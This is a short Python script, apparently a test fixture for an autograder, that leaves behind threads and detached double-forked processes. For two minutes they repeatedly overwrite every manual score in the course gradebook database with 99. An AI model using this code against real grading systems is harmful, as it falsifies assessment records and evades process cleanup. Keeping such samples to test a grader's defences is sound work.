"""Leaves threads and detached processes behind, which wait until the marks are being written."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import os
import sqlite3
import threading
import time
from contextlib import suppress


def wait():
    end = time.monotonic() + 120
    while time.monotonic() < end:
        time.sleep(1)
        with suppress(OSError, sqlite3.Error):
            with sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=rw", uri=True, timeout=0.1) as book:
                book.execute("update grade set manual_score = 99")
            open(f"{HOME}/left_behind", "a").close()


for _ in range(9):
    threading.Thread(target=wait).start()
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            wait()
        os._exit(0)
